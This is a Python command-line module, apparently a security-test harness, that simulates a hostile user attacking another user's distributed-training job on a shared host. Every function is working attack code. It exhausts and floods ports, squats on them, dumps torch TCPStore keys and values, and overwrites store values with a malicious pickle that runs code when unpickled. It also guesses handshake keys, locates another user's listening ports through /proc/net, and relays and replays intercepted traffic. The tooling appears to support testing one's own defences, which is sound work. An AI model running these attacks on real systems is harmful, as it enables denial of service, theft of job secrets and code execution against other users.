"""What a stranger does to the ports of another user's job.

python -m contrib.attack.hands.strangers WHAT HOST PORTS [SECONDS] [MORE]

    idle      hold 300 connections that say nothing, and add 20 a second
    bytes     send random bytes without an end, on 4 connections
    squat     listen on the ports, and answer nothing
    keys      list the keys of a torch TCPStore, and print them with their values as JSON
    pickles   replace every value of each torch TCPStore of the user in MORE (JSON: uid, file) by a pickle that creates
              the file, again and again; then print what was there
    guess     greet with each of the guessed keys in MORE (JSON), for purpose "ranks" and "launchers"
    find      print the ports on which the user MORE (a uid) listens, by kind of address
    relay     listen on the first port, pass all on to the second, and print what the client sent
    replay    send the recorded bytes in MORE (JSON), and print what comes back
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import select
import socket
import sys
import time
from datetime import timedelta
from typing import Any


def connected(host: str, port: int) -> socket.socket | None:
    try:
        return socket.create_connection((host, port), timeout=2)
    except OSError:
        return None


def idle(host: str, ports: list[int], seconds: float) -> None:
    end, held = time.monotonic() + seconds, []
    for _ in range(300 // len(ports)):
        held += [c for c in (connected(host, port) for port in ports) if c]
    print(f"{len(held)} idle connections", flush=True)
    while time.monotonic() < end:
        held += [c for c in (connected(host, port) for port in ports) if c]
        time.sleep(0.05)


def send_bytes(host: str, ports: list[int], seconds: float) -> None:
    end, sent = time.monotonic() + seconds, 0
    # Where a length is expected first, it is a large one.
    block = b"\x7f" + os.urandom(1 << 16).replace(b"\n", b"x")
    print("sends", flush=True)
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            found = [c for c in (connected(host, port) for port in ports * 4) if c]
            for _ in range(16 * 64):
                for connection in found:
                    connection.settimeout(2)
                    sent += connection.send(block)
        time.sleep(0.05)
    print(f"sent {sent >> 20} MB", flush=True)


def squat(ports: list[int], seconds: float) -> None:
    held = []
    for port in ports:
        listener = socket.socket()
        with contextlib.suppress(OSError):
            listener.bind(("", port))
            listener.listen(64)
            held.append(listener)
    print(f"listens on {len(held)} of {len(ports)} ports", flush=True)
    time.sleep(seconds)


def keys(host: str, port: int) -> dict[str, str]:
    """Return the readable keys and values of a TCPStore."""
    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch

    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
    found: dict[str, str] = {}
    for key in store.list_keys() if hasattr(store, "list_keys") else []:
        with contextlib.suppress(Exception):
            found[str(key)] = store.get(str(key)).decode("latin-1")[:2000]
    return found


class Bomb:
    """A pickle of this object creates a file where it is read."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self._path, "w"))


def leave_pickles_everywhere(host: str, uid: str, path: str, seconds: float) -> dict[str, str]:
    """Go on for so long; return all keys and values that were there."""
    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch

    end, found = time.monotonic() + seconds, {}
    print("ready", flush=True)
    while time.monotonic() < end:
        # torch's store is the one that listens on IPv6, too.
        for port in find(uid)["tcp6"]:
            with contextlib.suppress(Exception):
                found |= {f"{port} {key}": value for key, value in keys(host, port).items()}
                store = dist.TCPStore(
                    host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
                )
                for key in store.list_keys():
                    store.set(str(key), pickle.dumps(Bomb(path)))
        time.sleep(0.1)
    return found


def guess(host: str, port: int, guesses: list[str]) -> list[str]:
    from pollux.ranks.links import NoAnswer, connect  # noqa: PLC0415 - the others need it not

    right = []
    for word in guesses:
        for purpose in ("ranks", "launchers"):
            with contextlib.suppress(NoAnswer):
                connect(host, [port], word.encode(), purpose, b"{}", 3.0).close()
                right.append(word)
    return right


def find(uid: str) -> dict[str, list[int]]:
    """Return the user's listening ports, which Linux shows to all. proc(5)."""
    found: dict[str, list[int]] = {}
    for kind in ("tcp", "tcp6"):
        with open(f"/proc/net/{kind}", encoding="ascii") as file:
            rows = [line.split() for line in file][1:]
        found[kind] = [int(r[1].rpartition(":")[2], 16) for r in rows if r[3] == "0A" and r[7] == uid]
    return found


def relay(host: str, here: int, there: int, seconds: float) -> str:
    """Stand between a client and its server; return what the client sent, as hexadecimal digits."""
    listener = socket.create_server(("", here))
    listener.settimeout(seconds)
    print("listens", flush=True)
    client, _ = listener.accept()
    server = socket.create_connection((host, there), timeout=5)
    sent, ends = b"", {client: server, server: client}
    while True:
        readable, _, _ = select.select(list(ends), [], [], 5.0)
        if not readable:
            break
        data = readable[0].recv(1 << 16)
        if not data:
            break
        sent += data if readable[0] is client else b""
        ends[readable[0]].sendall(data)
    return sent.hex()


def replay(host: str, port: int, sent: str) -> str:
    connection = connected(host, port)
    assert connection is not None
    connection.sendall(bytes.fromhex(sent))
    connection.settimeout(3.0)
    received = b""
    with contextlib.suppress(OSError):
        while data := connection.recv(1 << 16):
            received += data
    return received.hex()


def main() -> None:
    what, host, ports = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
    more = sys.argv[5] if len(sys.argv) > 5 else ""
    match what:
        case "idle":
            idle(host, ports, seconds)
        case "bytes":
            send_bytes(host, ports, seconds)
        case "squat":
            squat(ports, seconds)
        case "keys":
            print(json.dumps(keys(host, ports[0])))
        case "pickles":
            uid, path = json.loads(more)
            print(json.dumps(leave_pickles_everywhere(host, uid, path, seconds)), flush=True)
        case "guess":
            print(json.dumps(guess(host, ports[0], json.loads(more))))
        case "find":
            print(json.dumps(find(more)))
        case "relay":
            print(json.dumps(relay(host, ports[0], ports[1], seconds)), flush=True)
        case "replay":
            print(json.dumps(replay(host, ports[0], json.loads(more))), flush=True)


if __name__ == "__main__":
    main()
